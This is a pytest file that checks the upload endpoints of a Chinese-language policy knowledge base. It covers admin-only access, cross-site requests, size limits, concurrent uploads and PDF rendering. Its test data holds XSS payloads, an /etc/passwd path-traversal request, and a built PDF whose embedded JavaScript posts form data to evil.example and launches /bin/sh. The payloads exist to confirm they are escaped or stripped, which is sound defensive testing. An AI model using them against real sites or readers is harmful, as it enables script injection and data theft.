"""Uploads over HTTP as hostile visitors and hurried admins send them."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from pydantic import SecretStr

from chat.backend import Backend
from kb import KnowledgeBase, Settings
from kb.embedding import Embedder
from tests.chat.doors.conftest import serving

HOSTILE = """试科字〔2024〕7号
关于<script>alert(1)</script>支持创新的若干措施
一、支持<img src=x onerror=alert(2)>研发。对企业给予不超过100万元补助。
二、支持"><svg onload=alert(3)>临床。对企业给予不超过200万元补助。
省科技厅
2024年3月1日
"""


@pytest.fixture
def own(
    tmp_path: Path, no_policies: Path, embedder: Embedder, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Backend]:
    """An open, empty knowledge base that may be written to."""
    settings = Settings(
        home=tmp_path / "home",
        policies=no_policies,
        admin_password=SecretStr("geheim"),
        max_file_mb=1,
        _env_file=None,
    )
    with KnowledgeBase(settings, embedder) as opened:
        monkeypatch.setattr("kb.knowledge_base.KnowledgeBase", lambda *_: opened)
        monkeypatch.setattr(opened, "search", lambda *_, **__: [])  # warms a model up, of which there is none
        made = Backend(settings)
        made.start()
        made.get()
        yield made


@pytest.fixture
def site(own: Backend) -> Iterator[str]:
    with serving(own) as served:
        yield served


@pytest.fixture
def admin(site: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=site, timeout=60, trust_env=False) as client:
        assert client.post("/admin/session", json={"password": "geheim"}).status_code == 200
        yield client


def upload(admin: httpx.Client, name: str, data: bytes) -> dict[str, Any]:
    got = admin.post("/library/files", params={"name": name}, content=data)
    assert got.status_code == 201, got.text
    told: dict[str, Any] = got.json()
    return told


def settled(admin: httpx.Client, token: str, *states: str) -> dict[str, Any]:
    until = time.monotonic() + 120
    while True:
        files = {file["token"]: file for file in admin.get("/library/files").json()["files"]}
        if files[token]["state"] in (states or ("ready", "failed")):
            found: dict[str, Any] = files[token]
            return found
        assert time.monotonic() < until, files[token]
        time.sleep(0.1)


def said(got: httpx.Response) -> str:
    return str(got.json()["error"]["message"])


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/library/files?name=1.txt"),
        ("GET", "/library/files"),
        ("GET", "/library/files/x"),
        ("GET", "/library/files/x/pages/1.png"),
        ("POST", "/library/files/x/accept"),
        ("DELETE", "/library/files/x"),
    ],
)
def test_only_the_admin_may(site: str, own: Backend, method: str, path: str) -> None:
    with httpx.Client(base_url=site, trust_env=False) as stranger:
        got = stranger.request(method, path, json={} if path.endswith("accept") else None)
    assert got.status_code == 401 and "管理密码" in said(got)
    assert not (own.settings.home / "staging").exists()


@pytest.mark.parametrize(
    "headers",
    [
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
    ],
)
def test_another_site_may_not_use_the_admins_cookie(admin: httpx.Client, headers: dict[str, str]) -> None:
    got = admin.post("/library/files", params={"name": "1.txt"}, content=b"x", headers=headers)
    assert got.status_code == 403 and "网页" in said(got)
    own = {"Sec-Fetch-Site": "same-origin", "Origin": str(admin.base_url).rstrip("/")}
    assert (
        admin.post("/library/files", params={"name": "1.txt"}, content=b"x", headers=own).status_code == 201
    )


def test_a_file_from_upload_to_answerable(admin: httpx.Client, own: Backend) -> None:
    token = upload(admin, "<b>七号</b>.txt", HOSTILE.encode())["token"]
    assert settled(admin, token)["state"] == "ready"
    html = admin.get(f"/library/files/{token}").json()["html"]
    assert "&lt;img src=x onerror" in html and "&lt;svg onload" in html
    assert not any(tag in html for tag in ("<script", "<img src=x", "<svg", "<b>七号"))
    wrong = admin.post(f"/library/files/{token}/accept", json={"fields": {"issued_on": "2024-02-30"}})
    assert wrong.status_code == 422 and "不是日期" in said(wrong)
    sent = admin.post(f"/library/files/{token}/accept", json={"fields": {"title": "支持创新的若干措施"}})
    assert sent.status_code == 202
    assert (
        admin.post(f"/library/files/{token}/accept", json={}).status_code == 422
        or settled(admin, token)["state"] == "accepted"
    )
    done = settled(admin, token, "accepted")
    assert done["document_id"] == "试科字〔2024〕7号" and "已收入知识库" in done["message"]
    kb, _ = own.get()
    assert [record.title for record in kb.records()] == ["支持创新的若干措施"]
    assert kb.audit.latest()[0].who == "网页管理员"
    assert admin.get("/pages/试科字〔2024〕7号/1.png").status_code == 404
    assert admin.delete(f"/library/files/{token}").status_code == 200
    assert admin.get(f"/library/files/{token}").status_code == 404


def test_a_file_over_the_limit(admin: httpx.Client, own: Backend) -> None:
    def endless() -> Iterator[bytes]:
        for _ in range(64):
            yield b"x" * 2**16

    for content in (b"x" * (2**20 + 1), endless()):
        try:
            got = admin.post("/library/files", params={"name": "1.txt"}, content=content)
            assert got.status_code == 413 and "超过上限 1 MB" in said(got)
        except httpx.WriteError:  # the door was shut while we were still sending
            pass
    assert admin.get("/library/files").json()["files"] == []
    assert list((own.settings.home / "staging").glob("*/file/*")) == []


def test_a_broken_upload_leaves_nothing(admin: httpx.Client, own: Backend) -> None:
    staging = own.settings.home / "staging"
    key = next(iter(admin.cookies.items()))
    head = f"POST /library/files?name=1.txt HTTP/1.1\r\nHost: x\r\nCookie: {key[0]}={key[1]}\r\nContent-Length: 99999\r\n\r\n"
    with socket.create_connection((admin.base_url.host, admin.base_url.port or 0)) as plug:
        plug.sendall(head.encode() + b"x" * 1000)
        until = time.monotonic() + 30
        while not list(staging.glob("*/file/1.txt")):
            assert time.monotonic() < until
            time.sleep(0.02)
        assert admin.get("/library/files").json()["files"] == []  # what is not whole is not there
    while list(staging.iterdir()):
        assert time.monotonic() < until
        time.sleep(0.02)


def test_two_admins_upload_the_same_file_at_once(admin: httpx.Client, own: Backend) -> None:
    done: list[str] = []

    def bring() -> None:
        token = upload(admin, "七号.txt", HOSTILE.encode())["token"]
        settled(admin, token)
        admin.post(f"/library/files/{token}/accept", json={})
        done.append(settled(admin, token, "accepted")["message"])

    both = [threading.Thread(target=bring) for _ in range(2)]
    for each in both:
        each.start()
    for each in both:
        each.join()
    assert sorted(message[:5] for message in done) == ["已收入知识", "知识库中已"]
    assert len(own.get()[0].records()) == 1


def test_together_only_new_files_without_doubts_are_taken(admin: httpx.Client, own: Backend) -> None:
    clean = HOSTILE.replace("<script>alert(1)</script>", "")
    revised = clean.replace("100万元", "150万元")
    texts = (clean, revised, HOSTILE.replace("7号", "8号"), clean)
    tokens = [upload(admin, f"{n}.txt", text.encode())["token"] for n, text in enumerate(texts)]
    for token in tokens:
        settled(admin, token)
    for token in tokens:
        assert admin.post(f"/library/files/{token}/accept", json={"only_new": True}).status_code == 202
    done = [settled(admin, token, "ready", "accepted") for token in tokens]
    assert [each["state"] for each in done] == ["accepted", "ready", "ready", "ready"]
    waits = [each["message"] for each in done[1:]]
    assert "会替换《" in waits[0] and "处需要核对" in waits[1] and "内容相同" in waits[2]
    assert [record.doc_number for record in own.get()[0].records()] == ["试科字〔2024〕7号"]
    admin.post(f"/library/files/{tokens[1]}/accept", json={})
    assert "已替换" in settled(admin, tokens[1], "accepted")["message"]


def test_a_pdf_with_a_script_is_read_and_shown_without_it(admin: httpx.Client) -> None:
    token = upload(admin, "脚本.pdf", pdf_with_script())["token"]
    ready = settled(admin, token)
    assert (ready["state"], ready["pages"]) == ("ready", 1)
    html = admin.get(f"/library/files/{token}").json()["html"]
    assert "Support for research" in html and "app.alert" not in html and "evil.example" not in html
    page = admin.get(f"/library/files/{token}/pages/1.png")
    assert page.headers["content-type"] == "image/png" and page.content.startswith(b"\x89PNG")
    assert b"alert" not in page.content
    admin.post(f"/library/files/{token}/accept", json={})
    document_id = settled(admin, token, "accepted")["document_id"]
    with httpx.Client(base_url=admin.base_url, timeout=60, trust_env=False) as reader:
        shown = reader.get(f"/pages/{document_id}/1.png")
        assert shown.content == page.content
        tag = {"If-None-Match": shown.headers["etag"]}
        assert reader.get(f"/pages/{document_id}/1.png", headers=tag).status_code == 304
        for number, status in (("2", 404), ("0", 422), ("9" * 5000, 422), ("x", 422)):
            assert reader.get(f"/pages/{document_id}/{number}.png").status_code == status
        assert reader.get("/pages/../../etc/passwd/1.png").status_code == 404


def test_a_thousand_pages_hold_nobody_up(admin: httpx.Client) -> None:
    token = upload(admin, "千页.pdf", pdf_of(1000))["token"]
    settled(admin, token, "reading")
    took = []
    for _ in range(10):
        start = time.monotonic()
        assert admin.get("/library/documents").status_code == 200
        took.append(time.monotonic() - start)
    assert settled(admin, token, "reading")  # all that while
    assert sorted(took)[len(took) // 2] < 1
    assert admin.delete(f"/library/files/{token}").status_code == 200
    assert admin.get("/library/files").json()["files"] == []


def pdf_of(pages: int) -> bytes:
    """A numbered line a page."""
    kids = b" ".join(b"%d 0 R" % (4 + 2 * n) for n in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for n in range(pages):
        objects += [_page(5 + 2 * n, 3), _line(b"%d. Support for research of class %d." % (n + 1, n + 1))]
    return _pdf(objects)


def pdf_with_script() -> bytes:
    """It would show a message when opened, send its form away, and start a program."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            _page(5, 3, b"/AA << /O 7 0 R >>"),
            _line(b"1. Support for research and development of new medicines."),
            b"<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://evil.example/'\\);) >>",
            b"<< /S /Launch /F (/bin/sh) >>",
        ]
    )


def _page(contents: int, font: int, more: bytes = b"") -> bytes:
    resources = b"/Resources << /Font << /F1 %d 0 R >> >>" % font
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents %d 0 R %s %s >>" % (
        contents,
        resources,
        more,
    )


def _line(text: bytes) -> bytes:
    shown = b"BT /F1 12 Tf 20 150 Td (%s) Tj ET" % text
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(shown), shown)


def _pdf(objects: list[bytes]) -> bytes:
    made, starts = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        starts.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    count, table = len(objects) + 1, b"".join(b"%010d 00000 n \n" % start for start in starts)
    xref = b"xref\n0 %d\n0000000000 65535 f \n%s" % (count, table)
    return made + xref + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, len(made))
